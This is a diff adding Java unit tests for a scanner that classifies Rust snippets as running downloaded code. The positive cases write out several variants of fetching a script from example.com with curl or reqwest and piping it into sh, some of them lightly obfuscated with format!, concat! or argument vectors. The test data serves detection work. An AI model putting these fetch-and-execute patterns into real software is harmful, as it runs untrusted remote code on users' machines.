@@ -94,4 +94,36 @@ class ProgramFormsTest {
     void whatRubyDoesNot(String program) {
         assertThat(kinds(Language.RUBY, program)).isEmpty();
     }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {
+                "Command::new(\"sh\").arg(\"-c\").arg(format!(\"curl -s {} | sh\",U)).status()",
+                "let u=\"https://example.com/p\"; Command::new(\"sh\").arg(\"-c\").arg(format!(\"curl -s {u} | sh\")).status();",
+                "Command::new(\"sh\").arg(\"-c\").arg(concat!(\"curl -s \",\"https://example.com/p\",\" | sh\")).status()",
+                "let a=vec![\"-c\",\"curl -s https://example.com/p | sh\"]; Command::new(\"/bin/sh\").args(&a).status();",
+                "cmd!(\"sh\",\"-c\",\"curl -s https://example.com/p | sh\").run()",
+                "let c=Command::new(\"curl\").arg(u).spawn().unwrap(); Command::new(\"sh\").stdin(c.stdout.unwrap()).status();",
+                "let o=Command::new(\"curl\").args([u]).output().unwrap(); let s=String::from_utf8(o.stdout).unwrap();"
+                        + "std::process::Command::new(\"sh\").arg(\"-c\").arg(s).status();",
+                "let b=reqwest::blocking::get(u).unwrap().text().unwrap(); Command::new(\"sh\").arg(\"-c\").arg(&b).status();",
+            })
+    void whatRustDoes(String program) {
+        assertThat(kinds(Language.RUST, program)).containsExactly(Trait.Kind.RUNS_DOWNLOAD);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {
+                "Command::new(\"sh\").arg(\"-c\").arg(format!(\"make {} | tee log\",U)).status()",
+                "println!(concat!(\"curl -s \",\"https://example.com/p\",\" | sh\"))",
+                "let a=vec![\"-c\",\"make\"]; Command::new(\"/bin/sh\").args(&a).status();",
+                "let c=Command::new(\"curl\").arg(u).output().unwrap(); Command::new(\"sh\").arg(\"configure\").status();",
+                "let b=reqwest::blocking::get(u).unwrap().bytes().unwrap(); fs::write(p, b); Command::new(\"make\").status();",
+            })
+    void whatRustDoesNot(String program) {
+        assertThat(kinds(Language.RUST, program)).isEmpty();
+    }
 }
